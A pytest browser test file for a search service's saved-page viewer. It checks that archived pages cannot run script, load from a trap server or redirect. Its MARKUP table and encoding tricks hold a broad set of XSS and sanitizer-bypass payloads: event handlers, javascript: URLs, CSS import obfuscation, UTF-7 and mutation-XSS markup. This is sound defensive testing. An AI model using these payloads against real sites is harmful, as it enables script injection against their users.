"""Hostile saved pages in a real browser: nothing runs, nothing is loaded from elsewhere, nothing leads away by itself.

Each page names a server that listens in the test: a single connection to it fails the test, whoever made it.
"""

# ruff: noqa: E501  the tricks are easier to read as they are
import gzip
import re
import socket
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from typing import Any, NamedTuple

import pytest

playwright_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")

axe_api = pytest.importorskip("axe_playwright_python.sync_playwright", reason="axe-playwright-python is not installed")

from playwright.sync_api import Browser, BrowserContext, Dialog, Route, expect  # noqa: E402  after the check that it is there

from searchsvc.engines import open_engine  # noqa: E402  the same
from searchsvc.reindex import reindex_places  # noqa: E402  the same
from searchsvc.settings import Settings  # noqa: E402  the same
from searchsvc.web import create_app  # noqa: E402  the same
from searchsvc.web.replay_pages import SAVED  # noqa: E402  the same
from tests.replay.saved_archives import gzip_warc  # noqa: E402  the same
from tests.servers import serving  # noqa: E402  the same

pytestmark = pytest.mark.browser

LOOKS: Mapping[str, Mapping[str, Any]] = {
    "light": {},
    "dark": {"color_scheme": "dark"},
    "forced colours": {"forced_colors": "active"},
    "phone": {"viewport": {"width": 320, "height": 640}},
}

#: `EVIL` is the address of the server that listens. Each page is read as an article: it has a headline and a text.
MARKUP: Mapping[str, str] = {
    "scripts": "<script>alert(1);new Image().src='EVIL/a'</script><script src='EVIL/b.js'></script><script type=module>"
    "import 'EVIL/c.js'</script><scr<script>ipt>alert(2)</script><SCRIPT/XSS SRC='EVIL/d'></SCRIPT>"
    "<script><!--</script><img src=x onerror=alert(3)>--></script>",
    "handlers": "<img src=x onerror='alert(1)'><body onload=alert(2)><p onmouseover=alert(3) onclick=alert(4)>x"
    "<details open ontoggle=alert(5)><marquee onstart=alert(6)>m</marquee><input autofocus onfocus=alert(7)>"
    "<video onerror=alert(8)><source src=EVIL/v></video><div style='animation:x' onanimationstart=alert(9)>",
    "javascript links": "<a id=go href='javascript:alert(1)'>go</a><a href=' java\tscript:alert(2)'>b</a>"
    "<a href='&#106;avascript:alert(3)'>c</a><a href='data:text/html,<script>alert(4)</script>'>d</a>"
    "<a href='vbscript:x'>e</a><area href='javascript:alert(5)'><iframe src='javascript:alert(6)'></iframe>",
    "refresh": "<meta http-equiv=refresh content='0;url=EVIL/r'><meta http-equiv='Set-Cookie' content='a=b'>"
    "<meta http-equiv='Content-Security-Policy' content=\"default-src *\"><noscript><meta http-equiv=refresh "
    "content='0;url=EVIL/n'></noscript>",
    "base": "<base href='EVIL/base/' target=_top><img src='pic.png'><a href='x'>x</a><link rel=stylesheet href='s.css'>",
    "styles": "<style>@import 'EVIL/1';@import url(EVIL/2);@\\69mport 'EVIL/3';body{background:url(EVIL/4)}"
    "p{background:u\\72l('EVIL/5');behavior:url(EVIL/6);-moz-binding:url(EVIL/7);width:expression(alert(1))}"
    "h1{--x:'EVIL/8';background:image-set('EVIL/9' 1x);background-image:-webkit-image-set(url(EVIL/10) 1x)}"
    "@font-face{font-family:f;src:url(EVIL/11)}h1{font-family:f;cursor:url(EVIL/12),auto;content:url(EVIL/13)}"
    "h2{background:image-set(var(--x) 1x)}li{list-style-image:url(EVIL/14)}@namespace url(EVIL/15);"
    "p::after{content:'</style><script>alert(2)</script>'}/*</style><img src=x onerror=alert(3)>*/"
    "@im/**/port 'EVIL/16';@im<!--port 'EVIL/17';a{background:url(  \"EVIL/18\"  )}b{background:url(EVIL/19</style>"
    "<p style=\"background:url('EVIL/20')\" background=EVIL/21>x<table background=EVIL/22><td background=EVIL/23>y</table>",
    "links of the head": "<link rel=dns-prefetch href=EVIL><link rel=preconnect href=EVIL><link rel=prefetch href=EVIL/p>"
    "<link rel=preload as=image href=EVIL/q><link rel=prerender href=EVIL/r><link rel=stylesheet href=EVIL/s.css>"
    "<link rel=icon href=EVIL/i><link rel=manifest href=EVIL/m><link rel=modulepreload href=EVIL/j>"
    '<link rel=import href=EVIL/k><script type=speculationrules>{"prefetch":[{"urls":["EVIL/l"]}]}</script>',
    "frames": "<iframe src=EVIL/f></iframe><iframe srcdoc='<script>alert(1)</script><img src=EVIL/g>'></iframe>"
    "<object data=EVIL/h><embed src=EVIL/i></object><object><img src=EVIL/o></object><applet archive=EVIL/j></applet>"
    "<frameset><frame src=EVIL/k></frameset><portal src=EVIL/l></portal><fencedframe src=EVIL/m></fencedframe>",
    "forms": "<form id=f action=EVIL/f method=post><input name=a value=b autofocus><button formaction=EVIL/g>send</button>"
    "<input type=image src=EVIL/h><isindex action=EVIL/i prompt=x></form><button form=f>Send</button>",
    "drawings": "<svg onload=alert(1)><script>alert(2)</script><image href=EVIL/a /><use href='EVIL/b#x'/><foreignObject>"
    "<iframe src=EVIL/c></iframe></foreignObject><style>@import 'EVIL/d'</style><a href=javascript:alert(3)><text>x</text>"
    "</a></svg><img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='EVIL/e'/></svg>\">"
    "<math href='javascript:alert(4)'><mtext><table><mglyph><style><img src=x onerror=alert(5)></style></table></math>",
    "media": "<img src=EVIL/a srcset='EVIL/b 1x, EVIL/c 2x' lowsrc=EVIL/d dynsrc=EVIL/e longdesc=EVIL/f usemap=EVIL/g>"
    "<picture><source srcset=EVIL/h><img data-src=EVIL/i></picture><video src=EVIL/j poster=EVIL/k autoplay></video>"
    "<audio src=EVIL/l autoplay></audio><track src=EVIL/m><bgsound src=EVIL/n><image src=EVIL/o><input type=image src=EVIL/p>",
    "confused markup": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><textarea></textarea>"
    "<img src=x onerror=alert(2)><title><a title='</title><img src=x onerror=alert(3)>'></title><xmp></xmp><script>alert(4)"
    "</script><plaintext><script>alert(5)</script><template><script>alert(6)</script></template><![CDATA[<img src=x "
    "onerror=alert(7)>]]><!--><img src=x onerror=alert(8)>--><!--!><img src=x onerror=alert(9)>-->"
    "<p id='\"><img src=x onerror=alert(10)>' class=\"'><script>alert(11)</script>\"><a href='\"onclick=alert(12)//'>z</a>"
    "<svg></p><style><g title='</style><img src onerror=alert(13)>'></svg><form><math><mtext></form><form><mglyph><style>"
    "</math><img src onerror=alert(14)>",
    "deep": "<div>" * 60_000 + "<script>alert(1)</script><img src=EVIL/deep>",
    "names": "<form id=documentElement><img name=getElementById><a id=self href='EVIL/x' ping=EVIL/ping download>x</a></form>"
    "<div slot=x is=evil-element><slot onslotchange=alert(1)></slot></div><evil-element>x</evil-element>",
}
ARTICLE = (
    "<!doctype html><html><head><title>{name} page</title></head><body><h1>{name} page</h1><p>The council closed the "
    "harbour wall on Monday, and it held all through the night, said the master.</p>{markup}"
)


def as_utf_7(text: str) -> str:
    return text.replace("<", "+ADw-").replace(">", "+AD4-")


def hostile_files(evil: str) -> Mapping[str, bytes]:
    """Name of a file → a page that may do harm."""
    files: dict[str, bytes] = {}
    for name, markup in MARKUP.items():
        text = ARTICLE.format(name=name, markup=markup.replace("EVIL", evil))
        files[f"{name}.html"] = text.encode()
    harm = f"<script>alert(1)</script><img src={evil}/u onerror=alert(2)>"
    plain = ARTICLE.format(name="seven bits", markup=f"<meta charset=utf-7>{as_utf_7(harm)}")
    files["seven bits.html"] = plain.encode()
    files["wide.html"] = ARTICLE.format(name="wide", markup=harm).encode("utf-16-le")
    files["wide other.html"] = ARTICLE.format(name="wide other", markup=harm).encode("utf-16-be")
    files["shifted.html"] = ARTICLE.format(name="shifted", markup="<meta charset=iso-2022-jp>").encode() + (
        b"<p title='\x1b$B'>\x1b(B' onclick=alert(1) " + harm.encode() + b"'>"
    )
    files["packed.html.gz"] = gzip.compress(ARTICLE.format(name="packed", markup=harm).encode())
    files["broken.mhtml"] = (
        b"MIME-Version: 1.0\r\nSnapshot-Content-Location: https://post.example/broken\r\n"
        b'Content-Type: multipart/related; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\n'
        b"Content-Location: https://post.example/broken\r\n\r\n"
        + ARTICLE.format(name="broken", markup=harm + "<img src=https://post.example/i.png>").encode()
        + b"\r\n--x\r\nContent-Type: image/png\r\nContent-Location: https://post.example/i.png\r\n\r\n<svg onload=alert(3)>"
        + b"<script>alert(4)</script>"
    )
    body = (
        b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nRefresh: 0;url="
        + evil.encode()
        + b"\r\nLink: <"
        + evil.encode()
    )
    body += b">; rel=preload\r\n\r\n" + ARTICLE.format(name="recorded", markup=harm).encode()
    head = b"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: %s/recorded\r\nContent-Length: %d\r\n\r\n"
    files["recorded.warc"] = head % (evil.encode(), len(body)) + body + b"\r\n\r\n"
    files["text.txt"] = ("text page\n\nThe council closed the harbour wall on Monday.\n\n" + harm + "\n").encode()
    return files


class Trap(NamedTuple):
    """A server that nobody may speak to, and who did."""

    address: str
    heard: list[bytes]


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as listening:

        def listen() -> None:
            with suppress(OSError):
                while True:
                    connection, _ = listening.accept()
                    heard.append(connection.recv(200))
                    connection.close()

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        yield Trap(f"http://127.0.0.1:{listening.getsockname()[1]}", heard)
        listening.shutdown(socket.SHUT_RDWR)


class Archive(NamedTuple):
    """The service with hostile pages: its address, and the id of each article by its headline."""

    address: str
    ids: Mapping[str, str]


@pytest.fixture(scope="module")
def hostile(trap: Trap, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Archive]:
    folder = tmp_path_factory.mktemp("hostile")
    for name, data in hostile_files(trap.address).items():
        (folder / "pages").mkdir(exist_ok=True)
        (folder / "pages" / name).write_bytes(data)
    gzip_warc(folder / "pages")
    index = str(folder / "index")
    reindex_places([str(folder / "pages")], index=index)
    engine = open_engine(f"whoosh:{index}")
    articles = [one for one in engine.articles(engine.ids()) if one]
    app = create_app(Settings(engine=f"whoosh:{index}", saved_pages=(str(folder / "pages"),)), engine)
    with serving(app) as address:
        yield Archive(address, {one.head.title: one.head.id for one in articles})
    app.extensions[SAVED].close()
    engine.close()


def note_dialogs(context: BrowserContext, happened: list[str]) -> None:
    """Have each dialog of a context noted and closed."""

    def note(dialog: Dialog) -> None:
        happened.append(f"dialog {dialog.message}")
        dialog.dismiss()

    context.on("dialog", note)


def answering(body: str, headers: Mapping[str, str] | None = None) -> Callable[[Route], None]:
    """A route that is answered with a page."""
    told = {"Content-Type": "text/html; charset=utf-8", **(headers or {})}
    return lambda route: route.fulfill(body=body, headers=told)


NAMES = [*MARKUP, "seven bits", "wide", "wide other", "shifted", "packed", "broken", "recorded", "text"]


@pytest.mark.parametrize("name", NAMES)
def test_a_hostile_page_runs_and_loads_nothing(name: str, hostile: Archive, trap: Trap, browser: Browser) -> None:
    one = hostile.ids[f"{name} page"]
    context = browser.new_context()
    asked: list[str] = []
    happened: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    note_dialogs(context, happened)
    page = context.new_page()
    page.on("popup", lambda opened: happened.append(f"popup {opened.url}"))
    page.on("download", lambda got: happened.append(f"download {got.url}"))
    page.on("worker", lambda worker: happened.append(f"worker {worker.url}"))
    for path in (f"/saved/{one}", f"/saved/{one}/page"):
        page.goto(hostile.address + path, wait_until="load")
        frame = page.frames[-1]
        expect(frame.get_by_text(re.compile("closed the\\s+harbour wall"))).not_to_have_count(0)
        markup = frame.content()
        for harm in ("<script", "<iframe", "<object", "<embed", "<svg", "<meta http-equiv", "<base", "<form", "<input"):
            assert harm not in markup.lower()
        assert not re.search(r"<[^>]*\son[a-z]+\s*=", re.sub(r'"[^"]*"', '""', markup))
        page.mouse.click(300, 400)
        page.keyboard.press("Tab")
        page.wait_for_timeout(150)
        assert page.url == hostile.address + path
        assert [one.url for one in page.frames if not one.url.startswith(hostile.address)] == []
    context.close()
    assert happened == []
    assert [url for url in asked if not url.startswith((hostile.address, "data:"))] == []
    known = re.compile(r"/saved/|/static/|/favicon\.")
    assert [url for url in asked if not url.startswith("data:") and not known.search(url)] == []
    assert trap.heard == []


def test_a_link_leaves_only_when_it_is_clicked_and_without_a_way_back(hostile: Archive, browser: Browser) -> None:
    one = hostile.ids["Harbour wall holds"]
    context = browser.new_context()
    context.route("https://other.example/", answering("<title>Others</title>"))
    page = context.new_page()
    page.goto(f"{hostile.address}/saved/{one}")
    frame = page.frame_locator("iframe")
    with page.expect_popup() as opened:
        frame.get_by_role("link", name="Others").click()
    there = opened.value
    there.wait_for_load_state()
    expect(there).to_have_url("https://other.example/")
    assert there.evaluate("[window.opener, document.referrer]") == [None, ""]
    assert page.url == f"{hostile.address}/saved/{one}"
    context.close()


def test_a_picture_of_the_crawl_is_drawn_and_its_style_applies(hostile: Archive, browser: Browser) -> None:
    one = hostile.ids["Harbour wall holds"]
    page = browser.new_page()
    page.goto(f"{hostile.address}/saved/{one}")
    page.wait_for_timeout(300)
    frame = page.frames[-1]
    shown = page.frame_locator("iframe").get_by_alt_text("The wall")
    assert shown.evaluate("image => image.complete && image.naturalWidth") == 1
    colour = page.frame_locator("iframe").locator("h1").evaluate("one => getComputedStyle(one).color")
    assert colour == "rgb(1, 2, 3)"
    assert frame.evaluate("window.origin") == "null"
    page.close()


def test_without_its_policy_what_is_written_runs_and_loads_nothing_either(
    hostile: Archive, trap: Trap, browser: Browser
) -> None:
    context = browser.new_context()
    happened: list[str] = []
    note_dialogs(context, happened)
    page = context.new_page()
    for name in NAMES:
        written = context.request.get(f"{hostile.address}/saved/{hostile.ids[f'{name} page']}/page").text()
        context.route("https://bare.example/", answering(written))
        page.goto("https://bare.example/")
        page.mouse.click(300, 400)
        page.wait_for_timeout(100)
        assert page.url == "https://bare.example/"
    context.close()
    assert happened == []
    assert trap.heard == []


def test_under_its_policy_no_script_of_what_was_saved_would_run(hostile: Archive, browser: Browser) -> None:
    context = browser.new_context()
    happened: list[str] = []
    note_dialogs(context, happened)
    answer = context.request.get(f"{hostile.address}/saved/{hostile.ids['Harbour wall holds']}/page")
    policy = {"Content-Security-Policy": answer.headers["content-security-policy"]}
    page = context.new_page()
    # Not those that would have the browser open connections, which no policy stops.
    for markup in (text for name, text in MARKUP.items() if name != "links of the head"):
        raw = ARTICLE.format(name="raw", markup=markup.replace("EVIL", "https://evil.example"))
        context.route("https://bare.example/", answering(raw, policy))
        page.goto("https://bare.example/", wait_until="commit")
        page.wait_for_timeout(100)
        assert page.url == "https://bare.example/"
    context.close()
    assert happened == []


@pytest.mark.parametrize("look", LOOKS)
def test_our_page_about_a_saved_page_is_for_everybody(look: str, hostile: Archive, browser: Browser) -> None:
    context = browser.new_context(**LOOKS[look])
    page = context.new_page()
    page.goto(f"{hostile.address}/saved/{hostile.ids['Harbour wall holds']}")
    # The page in the frame is as it was saved: what it lacks is not ours.
    found = (
        axe_api.Axe().run(page, context={"exclude": [["iframe"]]}, options={"iframes": False}).response["violations"]
    )
    assert [one["id"] for one in found] == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    context.close()


def test_without_javascript_and_by_keyboard_a_reader_goes_to_the_saved_page_and_back(
    hostile: Archive, browser: Browser
) -> None:
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    one = hostile.ids["Harbour wall holds"]
    page.goto(f"{hostile.address}/a/{one}")
    page.get_by_role("link", name="Saved page").press("Enter")
    expect(page).to_have_url(f"{hostile.address}/saved/{one}")
    expect(page.frame_locator("iframe").get_by_role("heading", name="Harbour wall holds")).to_have_count(1)
    page.get_by_role("link", name="The article as it was read").press("Enter")
    expect(page).to_have_url(f"{hostile.address}/a/{one}")
    context.close()


def test_the_pages_do_harm_where_nothing_stops_them(browser: Browser) -> None:
    context = browser.new_context()
    happened: list[str] = []
    note_dialogs(context, happened)
    page = context.new_page()
    raw = ARTICLE.format(name="raw", markup=MARKUP["scripts"].replace("EVIL", "https://bare.example"))
    context.route("https://bare.example/**", answering(raw))
    page.goto("https://bare.example/")
    context.close()
    assert happened
